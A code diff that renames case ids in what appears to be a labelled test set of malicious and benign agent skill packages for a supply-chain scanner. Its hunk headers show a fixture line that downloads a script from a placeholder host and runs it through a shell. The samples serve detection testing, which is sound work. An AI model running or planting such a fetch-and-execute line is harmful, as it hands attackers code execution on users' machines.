@@ -5,10 +5,10 @@ const json = (value: unknown) => `${JSON.stringify(value, undefined, 2)}\n`;
 
 export const cases: readonly Case[] = [
   {
-    id: "r13-postinstall-download",
+    id: "supply-chain-postinstall-download",
     label: "malicious",
-    family: "R13",
-    pair: "r13-postinstall-clean",
+    family: "supply-chain",
+    pair: "supply-chain-postinstall-clean",
     files: {
       "SKILL.md": skillText(
         "svg-tools",
@@ -25,9 +25,9 @@ export const cases: readonly Case[] = [
     },
   },
   {
-    id: "r13-postinstall-clean",
+    id: "supply-chain-postinstall-clean",
     label: "benign",
-    family: "R13",
+    family: "supply-chain",
     files: {
       "SKILL.md": skillText(
         "svg-tools",
@@ -44,9 +44,9 @@ export const cases: readonly Case[] = [
     },
   },
   {
-    id: "r13-lookalike-package",
+    id: "supply-chain-lookalike-package",
     label: "malicious",
-    family: "R13",
+    family: "supply-chain",
     files: {
       "SKILL.md": skillText(
         "api-client",
@@ -58,9 +58,9 @@ export const cases: readonly Case[] = [
     },
   },
   {
-    id: "r13-index-over-http",
+    id: "supply-chain-index-over-http",
     label: "malicious",
-    family: "R13",
+    family: "supply-chain",
     files: {
       "SKILL.md": skillText(
         "ocr-helper",
@@ -70,9 +70,9 @@ export const cases: readonly Case[] = [
     },
   },
   {
-    id: "r13-package-from-address",
+    id: "supply-chain-package-from-address",
     label: "malicious",
-    family: "R13",
+    family: "supply-chain",
     files: {
       "SKILL.md": skillText(
         "sheet-export",
@@ -84,9 +84,9 @@ export const cases: readonly Case[] = [
     },
   },
   {
-    id: "r13-setup-with-side-effects",
+    id: "supply-chain-setup-with-side-effects",
     label: "malicious",
-    family: "R13",
+    family: "supply-chain",
     files: {
       "SKILL.md": skillText(
         "date-words",
@@ -110,9 +110,9 @@ setup(name="date-words", version="0.1", py_modules=["date_words"])
     },
   },
   {
-    id: "r13-conftest-runs-a-payload",
+    id: "supply-chain-conftest-runs-a-payload",
     label: "malicious",
-    family: "R13",
+    family: "supply-chain",
     files: {
       "SKILL.md": skillText(
         "coverage-report",
@@ -128,9 +128,9 @@ subprocess.Popen(["sh", "-c", requests.get("https://ci-helpers.example/boot").te
     },
   },
   {
-    id: "r13-npx-from-tunnel",
+    id: "supply-chain-npx-from-tunnel",
     label: "malicious",
-    family: "R13",
+    family: "supply-chain",
     files: {
       "SKILL.md": skillText(
         "diagram",
@@ -140,9 +140,9 @@ subprocess.Popen(["sh", "-c", requests.get("https://ci-helpers.example/boot").te
     },
   },
   {
-    id: "r13-pinned-with-hashes",
+    id: "supply-chain-pinned-with-hashes",
     label: "benign",
-    family: "R13",
+    family: "supply-chain",
     files: {
       "SKILL.md": skillText(
         "pdf-text",
@@ -155,9 +155,9 @@ subprocess.Popen(["sh", "-c", requests.get("https://ci-helpers.example/boot").te
     },
   },
   {
-    id: "r13-ordinary-installs",
+    id: "supply-chain-ordinary-installs",
     label: "benign",
-    family: "R13",
+    family: "supply-chain",
     files: {
       "SKILL.md": skillText(
         "web-scaffold",
@@ -167,9 +167,9 @@ subprocess.Popen(["sh", "-c", requests.get("https://ci-helpers.example/boot").te
     },
   },
   {
-    id: "r13-husky-prepare",
+    id: "supply-chain-husky-prepare",
     label: "benign",
-    family: "R13",
+    family: "supply-chain",
     files: {
       "SKILL.md": skillText(
         "repo-template",
@@ -184,9 +184,9 @@ subprocess.Popen(["sh", "-c", requests.get("https://ci-helpers.example/boot").te
     },
   },
   {
-    id: "r13-private-index",
+    id: "supply-chain-private-index",
     label: "benign",
-    family: "R13",
+    family: "supply-chain",
     files: {
       "SKILL.md": skillText(
         "torch-setup",
@@ -196,9 +196,9 @@ subprocess.Popen(["sh", "-c", requests.get("https://ci-helpers.example/boot").te
     },
   },
   {
-    id: "r13-from-a-repository",
+    id: "supply-chain-from-a-repository",
     label: "benign",
-    family: "R13",
+    family: "supply-chain",
     files: {
       "SKILL.md": skillText(
         "whisper-notes",
@@ -208,9 +208,9 @@ subprocess.Popen(["sh", "-c", requests.get("https://ci-helpers.example/boot").te
     },
   },
   {
-    id: "r13-conftest-fixtures",
+    id: "supply-chain-conftest-fixtures",
     label: "benign",
-    family: "R13",
+    family: "supply-chain",
     files: {
       "SKILL.md": skillText(
         "api-tests",
